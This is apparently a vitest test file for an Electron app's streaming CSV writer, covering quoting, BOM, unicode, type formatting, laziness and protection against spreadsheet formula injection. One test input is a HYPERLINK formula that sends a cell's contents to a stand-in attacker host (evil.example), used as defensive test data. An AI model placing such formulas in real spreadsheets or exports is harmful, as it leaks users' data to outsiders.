import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvRows, type CsvColumn } from '../../../electron/core/csv/index';

const columns: CsvColumn[] = [
  { key: 'email', header: 'Email' },
  { key: 'note', header: 'Note, with comma' },
  { key: 'n', header: 'Count' },
];

async function text(stream: NodeJS.ReadableStream): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.isBuffer(chunk) ? chunk : Buffer.from(chunk));
  return Buffer.concat(chunks).toString('utf8');
}

const BOM = '\uFEFF';

describe('csvRows', () => {
  it('starts with a UTF-8 BOM and a header row, and ends every line with CRLF', async () => {
    const out = await text(csvRows(columns, [{ email: 'a@example.com', note: 'x', n: 1 }]));
    expect(out.startsWith(BOM)).toBe(true);
    expect(out.slice(1)).toBe('Email,"Note, with comma",Count\r\na@example.com,x,1\r\n');
  });

  it('leaves the BOM out when asked', async () => {
    const out = await text(csvRows(columns, [], { bom: false }));
    expect(out).toBe('Email,"Note, with comma",Count\r\n');
  });

  it('round-trips commas, quotes, newlines and unicode through csv-parse', async () => {
    const rows = [
      { email: 'ü@bücher.de', note: 'comma, "quoted" and\nnewline', n: 0 },
      { email: '田中@例え.jp', note: 'emoji 📬 and CR\r alone and CRLF\r\nend', n: 12.5 },
      { email: 'plain@example.com', note: '', n: null },
      { email: 'x@example.com', note: '"', n: undefined },
      { email: 'lf@example.com', note: 'line1\nline2', n: 1 },
      { email: 'cr@example.com', note: 'line1\rline2', n: 2 },
    ];
    const out = await text(csvRows(columns, rows));
    expect(out).toContain('"comma, ""quoted"" and\nnewline"');
    // A lone LF or CR is quoted too: spreadsheet apps end a record at either.
    expect(out).toContain('lf@example.com,"line1\nline2",1\r\n');
    expect(out).toContain('cr@example.com,"line1\rline2",2\r\n');
    const parsed = parse(out, { bom: true, columns: true }) as Record<string, string>[];
    expect(parsed).toEqual([
      { Email: 'ü@bücher.de', 'Note, with comma': 'comma, "quoted" and\nnewline', Count: '0' },
      { Email: '田中@例え.jp', 'Note, with comma': 'emoji 📬 and CR\r alone and CRLF\r\nend', Count: '12.5' },
      { Email: 'plain@example.com', 'Note, with comma': '', Count: '' },
      { Email: 'x@example.com', 'Note, with comma': '"', Count: '' },
      { Email: 'lf@example.com', 'Note, with comma': 'line1\nline2', Count: '1' },
      { Email: 'cr@example.com', 'Note, with comma': 'line1\rline2', Count: '2' },
    ]);
  });

  it('writes booleans as true/false, dates as ISO-8601 UTC and objects as JSON', async () => {
    const out = await text(
      csvRows(
        [
          { key: 'b', header: 'b' },
          { key: 'd', header: 'd' },
          { key: 'o', header: 'o' },
        ],
        [{ b: false, d: new Date(Date.UTC(2026, 0, 2, 3, 4, 5)), o: { a: [1] } }],
        { bom: false },
      ),
    );
    expect(out.split('\r\n')[1]).toBe('false,2026-01-02T03:04:05.000Z,"{""a"":[1]}"');
  });

  it('reads keys as plain property names, not nested paths', async () => {
    const out = await text(csvRows([{ key: 'a.b', header: 'ab' }], [{ 'a.b': 'flat', a: { b: 'nested' } }], { bom: false }));
    expect(out).toBe('ab\r\nflat\r\n');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', "'＝1+1"],
    ['safe = text', 'safe = text'],
  ])('neutralises the string cell %j against formula injection', async (cell, written) => {
    const out = await text(csvRows([{ key: 'v', header: 'v' }], [{ v: cell }], { bom: false }));
    expect(out).toBe(`v\r\n${written}\r\n`);
    const parsed = parse(out, { columns: true }) as { v: string }[];
    expect(parsed[0]?.v).toBe(cell === 'safe = text' ? cell : `'${cell}`);
  });

  it('keeps negative numbers numeric but neutralises the same text passed as a string', async () => {
    const out = await text(
      csvRows(
        [
          { key: 'num', header: 'num' },
          { key: 'str', header: 'str' },
        ],
        [{ num: -5, str: '-5' }, { num: -0.25, str: '-0.25' }, { num: BigInt(-7), str: '' }],
        { bom: false },
      ),
    );
    expect(out).toBe("num,str\r\n-5,'-5\r\n-0.25,'-0.25\r\n-7,\r\n");
  });

  it('accepts async iterables and ends the stream with the error a row source throws', async () => {
    async function* failing() {
      yield { email: 'one@example.com' };
      throw new Error('database went away');
    }
    await expect(text(csvRows(columns, failing()))).rejects.toThrow('database went away');
  });

  it('pulls rows lazily: the first chunk arrives long before a large source is exhausted', async () => {
    const total = 100_000;
    let produced = 0;
    function* many() {
      for (let i = 0; i < total; i++) {
        produced++;
        yield { email: `user${i}@example.com`, note: 'n', n: i };
      }
    }
    const stream = csvRows(columns, many());
    const iterator = stream[Symbol.asyncIterator]();
    const first = await iterator.next();
    expect(first.done).toBe(false);
    expect(produced).toBeGreaterThan(0);
    expect(produced).toBeLessThan(5_000);
    await iterator.return?.();
    // Stopping the consumer stops the producer too.
    const stoppedAt = produced;
    await new Promise((r) => setTimeout(r, 20));
    expect(produced).toBe(stoppedAt);
    expect(produced).toBeLessThan(total);
  });
});
